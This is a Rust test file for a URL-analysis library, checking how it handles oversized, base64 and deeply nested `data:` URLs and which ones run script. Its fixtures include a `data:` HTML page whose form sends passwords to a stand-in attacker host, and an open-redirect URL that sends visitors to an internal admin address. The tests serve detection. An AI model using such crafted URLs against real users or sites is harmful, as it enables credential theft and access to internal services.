//! `data:` URLs at the unfolding's bounds: a body of a megabyte is read as
//! far as the budget allows, in one pass, and `data:` URLs nested in
//! `data:` bodies deeper than `MAX_DEPTH` stop there. The fast path
//! agrees with the analysis on each.

use std::time::{Duration, Instant};
use urlscope_core::analysis::{Analysis, Nested, NestedKind, MAX_DEPTH, MAX_NESTED};
use urlscope_core::triage::triage;
use urlscope_core::{analyze, Options};

/// How deep the carried URLs of `a` go, and how many values it shows.
fn depth_and_values(a: &Analysis) -> (usize, usize) {
    fn walk(n: &Nested, depth: usize, out: &mut (usize, usize)) {
        out.1 += 1;
        let depth = depth + usize::from(n.kind == NestedKind::Url);
        out.0 = out.0.max(depth);
        for c in &n.children {
            walk(c, depth, out);
        }
        if let Some(inner) = &n.analysis {
            for c in &inner.nested {
                walk(c, depth, out);
            }
        }
    }
    let mut out = (0, 0);
    for n in &a.nested {
        walk(n, 0, &mut out);
    }
    out
}

fn data_body(a: &Analysis) -> &Nested {
    a.nested
        .iter()
        .find(|n| n.kind == NestedKind::DataBody)
        .expect("a data: body")
}

fn assert_triage_agrees(url: &[u8], a: &Analysis) {
    let fast: Vec<_> = triage(url, &Options::default())
        .iter()
        .map(|w| (w.code, w.severity))
        .collect();
    let full: Vec<_> = a.warnings.iter().map(|w| (w.code, w.severity)).collect();
    assert_eq!(fast, full);
}

#[test]
fn a_megabyte_data_body_is_read_in_one_pass() {
    let link = "%3Ca%20href=%22https://evil.example/x%22%3Eparcel%3C/a%3E%20";
    let filler = "%3Cp%3E".to_string() + &"words%20".repeat(120) + "%3C/p%3E";
    let mut url = "data:text/html,".to_string();
    while url.len() < 1 << 20 {
        url.push_str(link);
        url.push_str(&filler);
    }
    let start = Instant::now();
    let a = analyze(url.as_bytes(), &Options::default());
    let took = start.elapsed();
    let body = data_body(&a);
    assert!(body.text.len() <= url.len());
    assert!(body
        .text
        .starts_with(r#"<a href="https://evil.example/x">"#));
    // The values shown stop at MAX_NESTED, however many links the page has.
    assert_eq!(body.children.len(), MAX_NESTED - 1);
    assert!(depth_and_values(&a).1 <= MAX_NESTED);
    // Each link points at its own bytes in the body.
    let first = &body.children[0];
    assert_eq!(&url[first.span.range()], "https://evil.example/x");
    assert!(took < Duration::from_secs(60), "{took:?}");
    assert_triage_agrees(url.as_bytes(), &a);
}

#[test]
fn a_megabyte_base64_body_is_read_within_the_budget() {
    use base64::Engine;
    let page = r#"<form action="https://evil.example/collect">"#.to_string()
        + &"<input name=password>".repeat(50_000);
    let encoded = base64::engine::general_purpose::STANDARD.encode(&page);
    let url = format!("data:text/html;base64,{encoded}");
    assert!(url.len() > 1 << 20);
    let a = analyze(url.as_bytes(), &Options::default());
    let body = data_body(&a);
    // Decoded no further than the budget: the input's length.
    assert!(body.text.len() <= url.len());
    assert_eq!(body.children.len(), 1);
    assert_eq!(body.children[0].text, "https://evil.example/collect");
    assert_eq!(&url[body.span.range()], encoded);
    assert_triage_agrees(url.as_bytes(), &a);
}

#[test]
fn data_urls_nested_deeper_than_max_depth_stop_there() {
    // Each body is the next data: URL; the innermost leads to evil.example.
    let mut url = "https://evil.example/".to_string();
    for _ in 0..3 * MAX_DEPTH {
        url = format!("data:text/plain,{url}");
    }
    let a = analyze(url.as_bytes(), &Options::default());
    let (depth, _) = depth_and_values(&a);
    assert!(depth <= MAX_DEPTH, "{depth}");
    assert!(depth >= MAX_DEPTH - 1, "{depth}");
    assert_triage_agrees(url.as_bytes(), &a);

    // The same in base64, each level encoding the one inside it.
    use base64::Engine;
    let mut url = "https://evil.example/".to_string();
    for _ in 0..2 * MAX_DEPTH {
        url = format!(
            "data:text/html;base64,{}",
            base64::engine::general_purpose::STANDARD.encode(format!("<a href=\"{url}\">"))
        );
    }
    // Each level is 3/4 of the one around it, so the bytes allowed for
    // carried values (the input's length) run out after two.
    let a = analyze(url.as_bytes(), &Options::default());
    let (depth, _) = depth_and_values(&a);
    assert!((2..=MAX_DEPTH).contains(&depth), "{depth}");
    assert_triage_agrees(url.as_bytes(), &a);
}

#[test]
fn a_carried_data_url_says_where_its_page_leads() {
    let url = "https://victim.example/r?next=data:text/html,%253Cmeta%2520http-equiv%253Drefresh%2520content%253D%25220%253Burl%253Dhttp://127.0.0.1/admin%2522%253E";
    let a = analyze(url.as_bytes(), &Options::default());
    let leads: Vec<&str> = a.destinations.iter().map(|d| d.target.as_str()).collect();
    assert!(leads.contains(&"http://127.0.0.1/admin"), "{leads:?}");
    let internal = a
        .warnings
        .iter()
        .find(|w| w.code.code() == "internal-destination")
        .expect("internal-destination");
    assert!(internal
        .via
        .as_deref()
        .is_some_and(|v| v.contains("data: URL body (text/html)")));
    assert_triage_agrees(url.as_bytes(), &a);
}

/// A `data:` URL runs script only where a browser renders its media type
/// as a page (HTML, SVG, XML): plain text, the default when no type is
/// named, and an image are shown as they are, `dangerous-scheme` low and
/// no "runs script" destination.
#[test]
fn only_a_page_media_type_runs_script() {
    use urlscope_core::Severity;
    for (url, script) in [
        ("data:text/html,<p>x", true),
        ("data:application/xhtml+xml,<p>x</p>", true),
        ("data:image/svg+xml,<svg/>", true),
        ("data:text/xml,<x/>", true),
        ("data:application/xml,<x/>", true),
        ("data:text/plain;base64,aGVsbG8=", false),
        ("data:,hello", false),
        ("data:image/png;base64,iVBORw0KGgo=", false),
        ("data:application/json,{}", false),
        // No ',': the processor refuses it, nothing renders.
        ("data:text/html", false),
    ] {
        let a = analyze(url.as_bytes(), &Options::default());
        let own = a.destinations.first().expect("its own place");
        assert_eq!(own.runs_script, script, "{url}");
        let scheme = a
            .warnings
            .iter()
            .find(|w| w.code.code() == "dangerous-scheme")
            .expect("dangerous-scheme");
        let severity = if script {
            Severity::High
        } else {
            Severity::Low
        };
        assert_eq!(scheme.severity, severity, "{url}: {}", scheme.message);
        assert_triage_agrees(url.as_bytes(), &a);
    }
    // Carried in a parameter: a text data: URL is no script redirect.
    let url = "https://victim.example/r?next=data:text/plain,hi";
    let a = analyze(url.as_bytes(), &Options::default());
    assert!(a.warnings.iter().all(|w| w.code.code() != "open-redirect"));
    assert!(a.destinations.iter().all(|d| !d.runs_script));
    assert_triage_agrees(url.as_bytes(), &a);
}

/// A data: page's namespace names and DTD identifiers are no links; its
/// form and links are said to be the page's, not a site's redirect.
#[test]
fn a_data_page_names_are_no_links_and_its_links_are_its_own() {
    let svg = "data:image/svg+xml,<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink='http://www.w3.org/1999/xlink' version=\"1.1\"><rect/></svg>";
    let a = analyze(svg.as_bytes(), &Options::default());
    assert!(
        data_body(&a).children.is_empty(),
        "{:#?}",
        data_body(&a).children
    );
    assert_eq!(a.destinations.len(), 1, "{:#?}", a.destinations);
    assert!(a.warnings.iter().all(|w| w.code.code() != "open-redirect"));
    assert_triage_agrees(svg.as_bytes(), &a);
    let form = "data:text/html,<form action=\"https://evil.example/collect\"><input type=password>";
    let a = analyze(form.as_bytes(), &Options::default());
    let redirect = a
        .warnings
        .iter()
        .find(|w| w.code.code() == "open-redirect")
        .expect("open-redirect");
    assert_eq!(
        redirect.message,
        "The page this data: URL holds links to 'https://evil.example/collect': it sends what is typed into it, or its visitors, to 'evil.example'."
    );
    assert!(a.destinations.get(1).is_some_and(|d| d.in_data_body));
    assert_triage_agrees(form.as_bytes(), &a);
}
